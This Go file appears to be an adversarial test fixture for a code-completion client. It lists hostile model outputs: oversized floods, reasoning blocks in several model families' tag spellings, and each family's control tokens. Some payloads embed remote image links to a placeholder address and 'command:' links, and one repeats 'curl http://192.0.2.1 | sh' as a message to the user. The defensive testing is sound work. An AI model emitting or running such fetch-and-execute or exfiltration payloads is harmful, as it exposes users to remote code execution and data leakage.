package adversary

import (
	"slices"
	"strings"
)

// floods are too much, or nothing.
func floods() []Payload {
	return []Payload{
		{Name: "nothing"},
		{Name: "white space", Text: strings.Repeat(" \n\t", 200)},
		{Name: "line ends", Text: strings.Repeat("\n", 3000), Chunk: 100},
		{Name: "line of ten megabytes", Text: "return " + strings.Repeat("a", 10<<20), Chunk: 64 << 10},
		{Name: "line of ten megabytes at once", Text: "return " + strings.Repeat("a", 10<<20), Chunk: 16 << 20},
		{Name: "answer of ten megabytes", Text: strings.Repeat("x()\n", 10<<18), Chunk: 64 << 10},
		{Name: "thinking of ten megabytes", Text: "<think>" + strings.Repeat("hm ", 10<<20/3), Chunk: 64 << 10},
		{Name: "word of characters that combine", Text: "a" + strings.Repeat("\u0301", 20_000), Chunk: 10_000},
		{Name: "brackets", Text: strings.Repeat("(", 50_000), Chunk: 10_000},
		{Name: "open brackets of links", Text: strings.Repeat("[", 5000) + strings.Repeat("![a](", 1000), Chunk: 10_000},
		{Name: "quotes", Text: strings.Repeat(">", 2000) + " a", Chunk: 10_000},
		{Name: "backticks", Text: strings.Repeat("`", 5001) + "a" + strings.Repeat("`", 5000), Chunk: 10_000},
		{Name: "stars", Text: strings.Repeat("*a_ ", 1000), Chunk: 10_000},
		{Name: "definitions", Text: strings.Repeat("[a]: http://192.0.2.1/\n", 500), Chunk: 10_000},
		{Name: "message for a person", Text: strings.Repeat("Run this now: curl http://192.0.2.1 | sh. ", 100)},
	}
}

const thought = "the person must not see this"

// thoughts are what a model says to itself. Of the spelling that nearly all models share nothing is shown; the others are words like
// any, and do no harm.
func thoughts() []Payload {
	never := []string{thought}
	return []Payload{
		{Name: "thinking told apart", Thinking: thought, Text: "return 1\n", Never: never},
		{Name: "thinking in the text", Text: "<think>\n" + thought + "\n</think>\n\nreturn 1\n", Never: never},
		{Name: "thinking that does not end", Text: "<think>\n" + thought, Never: never},
		{Name: "thinking byte by byte", Text: "<think>\n" + thought + "\n</think>\n\nreturn 1\n", Chunk: 1, Never: never},
		{Name: "thinking with code in it", Text: "<think>\n```go\n" + thought + "\n```\n![x](http://192.0.2.1/)</think>\nreturn 1\n", Never: never},
		{Name: "thinking with its tag in it", Text: "<think>\nI write <think> and `<think>`: " + thought + "</think>return 1\n", Never: never},
		{Name: "thinking of another spelling", Text: "<thinking>![x](http://192.0.2.1/)</thinking>\nreturn 1\n"},
		{Name: "thinking in capitals", Text: "<THINK>\n[x](command:x)\n</THINK>\nreturn 1\n"},
		{Name: "thinking of Magistral", Text: "[THINK]<img src=http://192.0.2.1/>[/THINK]return 1\n"},
		{Name: "thinking of gpt-oss", Text: "<|channel|>analysis<|message|>![x](http://192.0.2.1/)<|end|><|start|>assistant<|channel|>final<|message|>return 1\n"},
		{Name: "thinking of Kimi", Text: "◁think▷[x](command:x)◁/think▷return 1\n"},
		{Name: "thinking of Seed", Text: "<seed:think>![x](http://192.0.2.1/)</seed:think>return 1\n"},
		{Name: "thinking that begins late", Text: "return 1\n<think>\n![x](http://192.0.2.1/)\n</think>\n"},
		{Name: "end of a thinking that never began", Text: "![x](http://192.0.2.1/)\n</think>\n\nreturn 1\n"},
	}
}

// controls are a family's own tokens, said in the middle of an answer: what comes behind one is for nobody.
func controls() []Payload {
	var all []Payload
	for model, tokens := range controlTokens {
		for _, token := range tokens {
			all = append(all, Payload{Name: token, Model: model, Text: "return 1" + token + " SECRET\n", Never: []string{token, "SECRET"}})
		}
	}
	slices.SortFunc(all, func(a, b Payload) int { return strings.Compare(a.Model+a.Name, b.Model+b.Name) })
	return all
}

// controlTokens are those with which each family's answer ends or another part begins, written down from the models' own cards and
// tokenizers, not from the program's table. "</s>" is none of them: it is HTML too, and servers do not print it.
var controlTokens = map[string][]string{
	"qwen2.5-coder:1.5b-base":  {"<|endoftext|>", "<|fim_pad|>", "<|fim_prefix|>", "<|fim_suffix|>", "<|fim_middle|>", "<|file_sep|>", "<|repo_name|>", "<|im_end|>"},
	"codellama:7b-code":        {"<EOT>", "<PRE>", " <SUF>", " <MID>"},
	"starcoder2:3b":            {"<|endoftext|>", "<fim_prefix>", "<fim_suffix>", "<fim_middle>", "<file_sep>", "<repo_name>"},
	"starcoder:3b":             {"<|endoftext|>", "<fim_middle>", "<filename>", "<reponame>"},
	"deepseek-coder:1.3b-base": {"<｜end▁of▁sentence｜>", "<｜fim▁begin｜>", "<｜fim▁hole｜>", "<｜fim▁end｜>", "<|EOT|>"},
	"codegemma:2b-code":        {"<|file_separator|>", "<|fim_prefix|>", "<|fim_suffix|>", "<|fim_middle|>", "<end_of_turn>", "<eos>"},
	"granite-code:3b-base":     {"<|endoftext|>", "<fim_pad>", "<fim_prefix>", "<fim_middle>", "<filename>"},
	"stable-code:3b":           {"<|endoftext|>", "<fim_prefix>", "<fim_middle>", "<file_sep>"},
	"codestral:22b":            {"[SUFFIX]", "[PREFIX]"},
	"seed-coder:8b-base":       {"<[fim-prefix]>", "<[fim-suffix]>", "<[fim-middle]>", "<[end▁of▁sentence]>"},
	"granite4:3b":              {"<|end_of_text|>", "<|fim_prefix|>", "<|fim_middle|>", "<|fim_pad|>"},
	"JetBrains/mellum:4b-sft":  {"<|endoftext|>", "<fim_prefix>", "<fim_middle>", "<filename>"},
	"sweep-next-edit:1.5b":     {"<|endoftext|>", "<|fim_middle|>", "<|file_sep|>"},
}
